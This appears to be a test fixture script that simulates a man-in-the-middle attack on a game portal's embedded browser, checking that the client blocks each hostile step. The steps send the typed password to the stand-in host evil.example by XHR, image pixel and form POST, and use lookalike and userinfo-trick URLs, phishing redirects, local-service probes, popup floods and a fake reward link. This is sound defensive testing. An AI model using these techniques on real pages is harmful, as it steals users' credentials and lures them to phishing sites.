// What a man in the middle on the plain-http portal could add to the
// operator's pages (demo/site.py --hostile adds it to the portal and the
// game page). A test arms one step at a time on the site; the page runs
// each step once, then reports what it saw to its own site as
// /hostile/report?page=PAGE&step=STEP&... (every request lands in the site's
// request log). Foreign hosts are answered by the same site, with pages that
// would steal what they can if the client ever let them load.
(function () {
  var LOCAL = '__LOCAL_ORIGIN__';  // a service on the player's own machine
  var EVIL = 'http://evil.example';
  var LOOKALIKE = 'http://www.velmora.example.evil.example';
  var page = /\/g\/velmoLogin|swtest/.test(location.href) ? 'game' : 'portal';
  var results = {};
  var seen = null;

  function report(step) {
    var query = 'page=' + page + '&step=' + step;
    for (var key in results) query += '&' + key + '=' + encodeURIComponent(results[key]);
    results = {};
    new Image().src = '/hostile/report?' + query;
  }

  // Requests whose answers a hostile script would read.
  function xhr(name, url) {
    var x = new XMLHttpRequest();
    results[name] = 'pending';
    x.onload = function () { results[name] = 'read:' + x.status + ':' + x.responseText.slice(0, 40); };
    x.onerror = function () { results[name] = 'error'; };
    x.onabort = function () { results[name] = 'aborted'; };
    try { x.open('GET', url); x.send(); } catch (e) { results[name] = 'threw'; }
  }
  function fetchOne(name, url) {
    results[name] = 'pending';
    if (!window.fetch) { results[name] = 'no-fetch'; return; }
    fetch(url).then(function (r) { return r.text(); })
      .then(function (t) { results[name] = 'read:' + t.slice(0, 40); },
            function () { results[name] = 'error'; });
  }
  function element(name, tag, attr, url) {
    var e = document.createElement(tag);
    results[name] = 'pending';
    e.onload = function () { results[name] = 'loaded'; };
    e.onerror = function () { results[name] = 'error'; };
    if (tag === 'link') e.rel = 'stylesheet';
    e[attr] = url;
    (tag === 'script' || tag === 'link' ? document.head : document.body).appendChild(e);
  }
  function frame(name, url) {
    var f = document.createElement('iframe');
    f.id = 'hostile-' + name;
    f.style.cssText = 'position:absolute;left:0;top:0;width:10px;height:10px;opacity:0.01';
    f.src = url;
    document.body.appendChild(f);
  }
  function frameText(name) {
    try {
      var d = document.getElementById('hostile-' + name).contentDocument;
      return d && d.body ? d.body.textContent.slice(0, 40) || 'empty' : 'no-document';
    } catch (e) { return 'unreadable'; }
  }
  // Navigations of this page, one after another; if any of them went
  // through, this page would be gone and could report nothing.
  function navigations(targets, done) {
    var i = 0;
    (function next() {
      if (i === targets.length) { setTimeout(done, 2500); return; }
      var target = targets[i++];
      if (typeof target === 'function') target(); else location.href = target;
      setTimeout(next, 900);
    })();
  }

  var steps = {
    // The player types into the portal's password field.
    typing: function () {
      var pass = document.getElementById('pass');
      if (pass) { pass.value = ''; pass.focus(); }
      results.focused = pass ? 'pass' : 'none';
      report('typing');
    },
    // Frames of foreign hosts would read the typed password from the page.
    frames: function () {
      results.typed = (document.getElementById('pass') || {}).value || '';
      frame('evil', EVIL + '/frame.html');
      frame('lookalike', LOOKALIKE + '/frame.html');
      frame('userinfo', 'http://www.velmora.example@evil.example/frame.html');
      frame('local', LOCAL + '/local/frame.html');
      frame('marker', 'http://game.velmora.example/g/velmoLogin?from=frame');
      setTimeout(function () {
        ['evil', 'lookalike', 'userinfo', 'local', 'marker'].forEach(function (n) { results['frame_' + n] = frameText(n); });
        report('frames');
      }, 4000);
    },
    // Reading other sites and the player's own machine.
    requests: function () {
      var typed = encodeURIComponent((document.getElementById('pass') || {}).value || 'none');
      xhr('xhr_evil', EVIL + '/collect?pw=' + typed);
      fetchOne('fetch_evil', EVIL + '/collect?via=fetch');
      xhr('xhr_local', LOCAL + '/local/secret');
      fetchOne('fetch_local', LOCAL + '/local/secret?via=fetch');
      xhr('xhr_lookalike', LOOKALIKE + '/collect');
      xhr('xhr_redirect', '/hostile/redirect?to=' + encodeURIComponent(EVIL + '/collect?via=redirect'));
      xhr('xhr_own', '/hostile/own');
      element('script_evil', 'script', 'src', EVIL + '/evil.js');
      element('image_evil', 'img', 'src', EVIL + '/pixel.png?pw=' + typed);
      element('style_evil', 'link', 'href', EVIL + '/evil.css');
      setTimeout(function () {
        results.evil_script_ran = window.evilRan ? 'yes' : 'no';
        report('requests');
      }, 4000);
    },
    // WebSockets to a foreign host and to the player's own machine.
    sockets: function () {
      function socket(name, url) {
        results[name] = 'pending';
        try {
          var ws = new WebSocket(url);
          ws.onopen = function () { results[name] = 'open'; };
          ws.onerror = function () { results[name] = 'error'; };
        } catch (e) { results[name] = 'threw'; }
      }
      // The page's own WebSocket, reached back through its prototype.
      try {
        var ctor = WebSocket.prototype.constructor;
        new ctor(LOCAL.replace('http:', 'ws:') + '/local/prototype-socket');
        results.ws_prototype = 'made';
      } catch (e) { results.ws_prototype = 'threw'; }
      socket('ws_evil', EVIL.replace('http:', 'ws:') + '/socket');
      socket('ws_local', LOCAL.replace('http:', 'ws:') + '/local/socket');
      socket('ws_lookalike', LOOKALIKE.replace('http:', 'ws:') + '/socket');
      socket('ws_own', 'ws://' + location.host + '/socket');  // the operator's own may
      // The page's own WebSocket, fetched back from a fresh frame.
      var f = document.createElement('iframe');
      document.body.appendChild(f);
      try {
        var ws = new f.contentWindow.WebSocket(LOCAL.replace('http:', 'ws:') + '/local/frame-socket');
        results.ws_frame = 'made';
        ws.onerror = function () { results.ws_frame = 'error'; };
      } catch (e) { results.ws_frame = 'threw'; }
      // A worker made from the page's own text, which would open a socket.
      try {
        var blob = new Blob(["new WebSocket('" + LOCAL.replace('http:', 'ws:') + "/local/worker-socket');" +
                             "postMessage('ran')"]);
        var worker = new Worker(URL.createObjectURL(blob));
        results.worker = 'made';
        worker.onmessage = function () { results.worker = 'ran'; };
        worker.onerror = function () { results.worker = 'error'; };
      } catch (e) { results.worker = 'threw'; }
      setTimeout(function () { report('sockets'); }, 4000);
    },
    // The page itself led elsewhere by script, meta refresh, HTTP redirect,
    // a form, and addresses that only look like the operator's.
    navigate: function () {
      navigations([
        EVIL + '/phish?by=script',
        function () {
          var meta = document.createElement('meta');
          meta.httpEquiv = 'refresh';
          meta.content = '0;url=' + EVIL + '/phish?by=meta';
          document.head.appendChild(meta);
        },
        '/hostile/redirect?to=' + encodeURIComponent(EVIL + '/phish?by=redirect'),
        'http://www.velmora.example@evil.example/phish?by=userinfo',
        LOOKALIKE + '/phish?by=lookalike',
        EVIL + '/www.velmora.example/wd/wd-vlmr/index.htm?by=path',
        LOCAL + '/local/phish?by=local',
        'data:text/html,<h1>Sign in again</h1><form><input type=password></form>',
        function () {
          var form = document.createElement('form');
          form.method = 'POST';
          form.action = EVIL + '/phish?by=form';
          var field = document.createElement('input');
          field.name = 'pw';
          field.value = (document.getElementById('pass') || {}).value || 'none';
          form.appendChild(field);
          document.body.appendChild(form);
          form.submit();
        },
        EVIL + '/g/velmoLogin?by=foreign-marker'
      ], function () {
        results.stayed = location.href;
        report('navigate');
      });
    },
    // window.open in a loop: only a few reach the system browser.
    flood: function () {
      for (var i = 0; i < 30; i++) window.open(EVIL + '/popup?n=' + i + '&page=' + page, '_blank');
      report('flood');
    },
    // A foreign link where the player will click it.
    link: function () {
      var a = document.createElement('a');
      a.id = 'hostile-link';
      a.href = LOOKALIKE + '/clicked?page=' + page;
      a.textContent = 'Claim your reward';
      a.style.cssText = 'position:fixed;left:0;top:0;width:120px;height:60px;display:block;' +
                        'background:#c00;color:#fff;z-index:99;font:14px sans-serif';
      document.body.appendChild(a);
      results.placed = 'yes';
      report('link');
      setTimeout(function () {
        results.stayed = location.href;
        report('link-after');
      }, 6000);
    }
  };

  function poll() {
    var x = new XMLHttpRequest();
    x.onload = function () {
      var parts = x.responseText.split(' ');
      var seq = parseInt(parts[0], 10), name = parts[1] || '';
      if (seen === null) {
        seen = seq;  // steps armed before this page loaded are not its own
      } else if (seq > seen) {
        seen = seq;
        var step = name.split(':');
        if (step[0] === page && steps[step[1]]) steps[step[1]]();
      }
      setTimeout(poll, 300);
    };
    x.onerror = function () { setTimeout(poll, 1000); };
    x.open('GET', '/hostile/step?page=' + page);
    x.send();
  }
  poll();
})();
